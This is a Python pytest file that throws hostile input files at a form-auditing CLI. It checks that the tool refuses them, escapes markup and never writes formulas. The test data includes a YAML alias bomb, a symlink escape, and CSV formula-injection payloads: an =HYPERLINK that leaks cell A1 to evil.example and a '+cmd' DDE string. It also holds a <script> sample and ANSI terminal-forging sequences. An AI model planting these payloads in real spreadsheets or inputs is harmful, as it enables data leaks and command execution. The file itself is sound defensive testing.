"""Hostile input: each row of the table in docs/security.md, as a test.

Every test runs the command line in-process (``perfrules.cli.main``) the
way a finance bureau runs it over forms received from dozens of units, and
checks the exit code, that the batch went on, and that nothing was written
outside ``-o``. The last test puts every hostile file in one folder.
"""

from __future__ import annotations

import csv
import decimal
import io
import json
import os
import time
import zipfile
from pathlib import Path
from typing import Any, Callable

import pytest

from perfrules.cli import main

from . import builders
from .test_batch_cli import FORM, Plugin, form, run, tree, write_form

ROWS: dict[str, Callable[[Path], Path]] = {}


def row(name: str) -> Callable[[Callable[[Path], Path]], Callable[[Path], Path]]:
    """A hostile file for the batch test (and the docs table row it backs)."""
    def register(make: Callable[[Path], Path]) -> Callable[[Path], Path]:
        ROWS[name] = make
        return make
    return register


def text_file(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")
    return path


@row("json-deep")
def deep_json(folder: Path) -> Path:
    return text_file(folder / "deep.json", "[" * 3000 + "]" * 3000)


@row("json-path-int")
def path_int(folder: Path) -> Path:
    data = form()
    data["indicators"][0]["path"] = 5
    return write_form(folder / "path5.json", data)


@row("json-indicators-str")
def indicators_str(folder: Path) -> Path:
    return write_form(folder / "indicators-x.json", form(indicators="x"))


@row("weight-1e30")
def huge_weight(folder: Path) -> Path:
    path = folder / "weight.json"
    text = json.dumps(FORM, ensure_ascii=False).replace('"weight": "60"', '"weight": 1E+30')
    return text_file(path, text)


@row("yaml-alias-bomb")
def alias_bomb(folder: Path) -> Path:
    lines = ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    for prev, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    lines.append("indicators: [*i]")
    text = "\n".join(lines) + "\n"
    assert len(text) < 1024
    return text_file(folder / "bomb.yaml", text)


@row("yaml-deep")
def deep_yaml(folder: Path) -> Path:
    return text_file(folder / "deep.yaml", "indicators: " + "[" * 200 + "]" * 200 + "\n")


@row("fifo")
def fifo(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    os.mkfifo(folder / "pipe.json")
    return folder / "pipe.json"


@row("symlink-out")
def link_out(folder: Path) -> Path:
    target = write_form(folder.parent / "elsewhere" / "secret.json")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "link.json").symlink_to(target)
    return folder / "link.json"


@row("plugin-raises")
def plugin_raises(folder: Path) -> Path:
    return write_form(folder / "boom.json", form(ruleset="test-boom"))


@row("slow")
def slow(folder: Path) -> Path:
    return text_file(folder / "hang.slow", "x")


@row("not-a-zip")
def not_a_zip(folder: Path) -> Path:
    path = folder / "broken.xlsx"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"PK\x03\x04 not really a workbook")
    return path


@row("malformed-sheet-xml")
def bad_sheet_xml(folder: Path) -> Path:
    path = builders.seed_xlsx(_mkdir(folder) / "bad-xml.xlsx")
    buffer = io.BytesIO()
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(buffer, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.startswith("xl/worksheets/sheet"):
                data = data[: len(data) // 2]  # cut off mid-element
            dst.writestr(info, data)
    path.write_bytes(buffer.getvalue())
    return path


@row("csv-huge-field")
def huge_csv_field(folder: Path) -> Path:
    path = _mkdir(folder) / "huge.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["指标名称", "指标性质", "指标值", "指标权重", "全年完成值"])
        writer.writerow(["x" * 200_000, "≥", "1", "100", "1"])
    return path


@row("bad-encoding")
def gbk_json(folder: Path) -> Path:
    path = _mkdir(folder) / "gbk.json"
    path.write_bytes(json.dumps(FORM, ensure_ascii=False).encode("gbk"))
    return path


def _mkdir(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest.fixture
def plugged(monkeypatch: pytest.MonkeyPatch) -> None:
    import perfrules

    reg = perfrules.Registry([Plugin()], entry_points=False)
    monkeypatch.setattr("perfrules.cli.get_registry", lambda: reg)


# -- one row at a time ----------------------------------------------------------------------


#: hostile cells of a readable form: the audit reports them as findings (exit 1), as
#: it does every bad cell, rather than refusing the form
AUDITED = {"weight-1e30": "PR001", "json-path-int": "PR001"}


@pytest.mark.usefixtures("plugged")
@pytest.mark.parametrize("name", sorted(ROWS))
def test_each_hostile_file_is_a_refused_form(name: str, tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "in"
    ROWS[name](folder)
    write_form(folder / "zz-good.json")
    before = tree(tmp_path)
    started = time.monotonic()
    code, out, err = run(capsys, "audit", str(folder), "--format", "json", "--timeout", "2")
    assert time.monotonic() - started < 20
    assert "Traceback" not in err
    forms = json.loads(out)["forms"]
    if name in AUDITED:  # read, and audited as a form with an error finding on the bad cell
        assert code == 1, (name, out, err)
        assert any(f["code"] == AUDITED[name] for form in forms
                   for f in form.get("findings", ())), (name, out)
    else:
        assert code == 2, (name, out, err)
        assert [f["file"] for f in forms if "error" in f], name
    assert forms[-1]["file"].endswith("zz-good.json") and forms[-1]["total"] == "100.00"
    assert tree(tmp_path) == before  # nothing written without -o


def test_limits_name_themselves_and_how_to_raise_them(tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    deep_json(tmp_path)
    alias_bomb(tmp_path)
    code, _, err = run(capsys, "score", str(tmp_path / "deep.json"))
    assert code == 2 and "上限 max_depth 为 32" in err and "PERFRULES_MAX_DEPTH" in err
    started = time.monotonic()
    code, _, err = run(capsys, "score", str(tmp_path / "bomb.yaml"))
    assert time.monotonic() - started < 2  # refused while composing, before anything is built
    assert code == 2 and "上限 max_cells 为 200000" in err and "--max-cells" in err


def test_depth_limit_can_be_raised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                   capsys: pytest.CaptureFixture[str]) -> None:
    data = form()
    data["indicators"][0]["path"] = ["产出指标", "数量指标"]
    data["extra"] = [[[[[[[[[[[["deep"]]]]]]]]]]]]
    path = write_form(tmp_path / "f.json", data)
    monkeypatch.setenv("PERFRULES_MAX_DEPTH", "8")
    code, _, err = run(capsys, "score", str(path))
    assert code == 2 and "上限 max_depth 为 8" in err
    monkeypatch.setenv("PERFRULES_MAX_DEPTH", "40")
    code, _, err = run(capsys, "score", str(path))
    assert "max_depth" not in err  # refused for the unknown field only
    monkeypatch.setenv("PERFRULES_MAX_DEPTH", "many")
    code, _, err = run(capsys, "score", str(path))
    assert code == 2 and "PERFRULES_MAX_DEPTH 不是正整数" in err


@row("json-lone-surrogate")
def lone_surrogate(folder: Path) -> Path:
    return text_file(folder / "surrogate.json", json.dumps(form(title="\ud800标题")))


def test_lone_surrogate_in_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = lone_surrogate(tmp_path)
    code, _, err = run(capsys, "score", str(path))
    assert code == 2 and "孤立的代理码位" in err and "'\\ud800标题'" in err
    code, _, _ = run(capsys, "audit", str(path), "-o", str(tmp_path / "out") + "/")
    assert code == 2
    assert "孤立的代理码位" in (tmp_path / "out" / "summary.csv").read_text("utf-8-sig")


INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0",
              "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("title", INJECTIONS)
def test_summary_csv_fields_are_never_formulas(title: str, tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    path = write_form(tmp_path / "in" / "f.json", form(title=title))
    run(capsys, "audit", str(path), "-o", str(tmp_path / "out") + "/", "--lang", "en")
    with (tmp_path / "out" / "summary.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["title"] == "'" + title


@pytest.mark.parametrize("title", INJECTIONS)
def test_xlsx_report_cells_are_never_formulas(title: str, tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    import openpyxl

    data = form(title=title)
    data["indicators"][0]["name"] = title
    path = write_form(tmp_path / "f.json", data)
    target = tmp_path / "r.xlsx"
    assert run(capsys, "score", str(path), "--format", "xlsx", "-o", str(target))[0] == 0
    with zipfile.ZipFile(target) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet  # no formula anywhere
    ws = openpyxl.load_workbook(target)["自评表"]
    texts = [c for r in ws.iter_rows() for c in r if c.value == title.replace("\r", "\n")
             or c.value == title]
    assert texts and all(c.data_type == "s" for c in texts)


def test_annotated_copy_adds_no_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import openpyxl

    path = builders.seed_xlsx(tmp_path / "in.xlsx")
    wb = openpyxl.load_workbook(path)
    wb["自评表"]["H7"] = 4.0  # a finding on this cell
    wb["自评表"]["B6"] = "=1+1"  # the user's own formula stays as it is
    wb.save(path)
    out = tmp_path / "out"
    run(capsys, "audit", str(path), "-o", f"{out}/", "--format", "xlsx")
    copy = openpyxl.load_workbook(out / "in.audit.xlsx")["自评表"]
    assert copy["H7"].comment is not None and copy["H7"].value == 4
    assert copy["B6"].value == "=1+1" and copy["B6"].data_type == "f"


FORGED = "名称\x1b[2J\x1b[31m\r\n香炉山.json: 表内总分 100  重算总分 100  优  错误 0  警告 0  提示 0"


def test_terminal_output_cannot_be_forged(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = form(title=FORGED, reported_total="90")
    data["indicators"][0]["name"] = FORGED
    path = write_form(tmp_path / "f.json", data)
    code, out, _ = run(capsys, "audit", str(path))
    assert code == 1
    assert "\x1b" not in out and "\r" not in out
    assert not any(line.startswith("香炉山.json") for line in out.splitlines())
    code, out, _ = run(capsys, "score", str(path), "--explain")
    assert "\x1b" not in out and "\r" not in out
    assert not any(line.startswith("香炉山.json") for line in out.splitlines())


def test_markdown_and_html_escape_markup(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evil = "<script>alert(1)</script>|**粗**\n# 标题"
    data = form(title=evil, reported_total="90")
    data["indicators"][0]["name"] = evil
    path = write_form(tmp_path / "f.json", data)
    for command in ("score", "audit"):
        _, out, _ = run(capsys, command, str(path), "--format", "markdown")
        assert "<script>" not in out and "\n# 标题" not in out
        assert command == "audit" or ("\\|" in out and "\\*\\*" in out)
        _, out, _ = run(capsys, command, str(path), "--format", "html")
        assert "<script>" not in out and "&lt;script&gt;" in out


def test_numbers_over_28_digits(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = form()
    data["indicators"][0].update(target="9" * 35, actual="9" * 36, unit=None)
    path = write_form(tmp_path / "big.json", data)
    for fmt in ("text", "markdown", "html", "json"):
        code, out, err = run(capsys, "score", str(path), "--format", fmt)
        assert code == 0, (fmt, err)
        assert "9" * 35 in out, fmt
    code, _, err = run(capsys, "audit", str(path), "--format", "markdown")
    assert code in (0, 1) and "Traceback" not in err


def test_callers_decimal_context_changes_nothing(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    data = form()
    data["indicators"][0].update(unit="%", target="100", actual="93.45", reported_score="56.07")
    path = write_form(tmp_path / "f.json", data)
    _, expected, _ = run(capsys, "audit", str(path), "--format", "json", "--timeout", "0")
    with decimal.localcontext() as ctx:
        ctx.prec = 3
        ctx.traps[decimal.Inexact] = False
        _, got, _ = run(capsys, "audit", str(path), "--format", "json", "--timeout", "0")
    assert got == expected
    assert '"total": "96.07"' in got


WRONG_TYPES = {
    "path-int": ("indicator", "path", 5),
    "path-nested": ("indicator", "path", [1, [2]]),
    "ruleset-list": ("form", "ruleset", ["x"]),
    "weight-float-1e30": ("indicator", "weight", 1e30),
    "judged-dict": ("indicator", "judged_score", {"a": 1}),
    "indicators-str": ("form", "indicators", "x"),
}
@pytest.mark.parametrize("case", sorted(WRONG_TYPES))
def test_wrong_types_are_located_problems(case: str, tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    where, key, value = WRONG_TYPES[case]
    data = form()
    (data["indicators"][0] if where == "indicator" else data)[key] = value
    path = tmp_path / "f.json"
    path.write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    code, _, err = run(capsys, "score", str(path))
    assert code == 2
    assert "could not process" not in err, err  # a problem naming the field, not a bug
    assert key in err


def test_exit_code_is_2_whatever_happens(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    """A crash is never exit 1 ("findings"): an unexpected error is a refused run."""
    def crash(*args: Any, **kwargs: Any) -> Any:
        raise ZeroDivisionError("bug")

    monkeypatch.setattr("perfrules.cli._run", crash)
    code, _, err = run(capsys, "--lang", "en", "score", "--example")
    assert code == 2 and "internal error" in err and "ZeroDivisionError" in err


# -- the whole folder -------------------------------------------------------------------------


@pytest.mark.usefixtures("plugged")
def test_a_batch_of_every_hostile_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "收到的自评表"
    hostile = {make(folder).name for name, make in ROWS.items() if name not in AUDITED}
    audited = {ROWS[name](folder).name for name in AUDITED}
    raw = os.path.join(os.fsencode(folder), "非UTF8".encode("gbk") + b".json")
    with open(raw, "wb") as fh:
        fh.write(json.dumps(FORM).encode("utf-8"))
    write_form(folder / "inject.json", form(title="=HYPERLINK(\"x\")", reported_total="90"))
    write_form(folder / "sub" / "自评表.json")
    builders.seed_xlsx(_mkdir(folder / "a") / "自评表.xlsx")
    builders.seed_xlsx(_mkdir(folder / "b") / "自评表.xlsx")
    before = tree(folder)
    out = tmp_path / "out"
    started = time.monotonic()
    code = main(["audit", str(folder), "-o", f"{out}/", "--format", "xlsx", "--timeout", "3",
                 "--jobs", "2", "--lang", "en"])
    text = capsys.readouterr().out
    assert time.monotonic() - started < 60
    assert code == 2
    with (out / "summary.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = {r["file"]: r for r in csv.DictReader(fh)}
    refused = {name for name, r in rows.items() if r["status"] == "unreadable"}
    assert {Path(n).name for n in refused} == hostile
    assert all(rows[n]["message"] for n in refused)
    read = {Path(n).name for n in set(rows) - refused}
    assert read == {"\ufffd\ufffdUTF8.json", "inject.json", "自评表.json", "自评表.xlsx", *audited}
    assert rows[next(n for n in rows if n.endswith("inject.json"))]["title"].startswith("'=")
    assert (out / "a" / "自评表.audit.xlsx").exists() and (out / "b" / "自评表.audit.xlsx").exists()
    assert tree(folder) == before  # no input touched
    assert "Traceback" not in text


def test_writers_ignore_the_callers_decimal_context() -> None:
    import perfrules

    registry = perfrules.Registry(entry_points=False)
    report = perfrules.score(perfrules.example(), registry=registry)
    expected = {name: registry.writer(name).write(report, explain=True)
                for name in ("text", "json", "markdown", "html")}
    with decimal.localcontext() as ctx:
        ctx.prec = 1
        ctx.traps[decimal.Inexact] = True  # any arithmetic in the caller's context fails
        ctx.traps[decimal.Rounded] = True
        got = {name: registry.writer(name).write(report, explain=True) for name in expected}
    assert got == expected
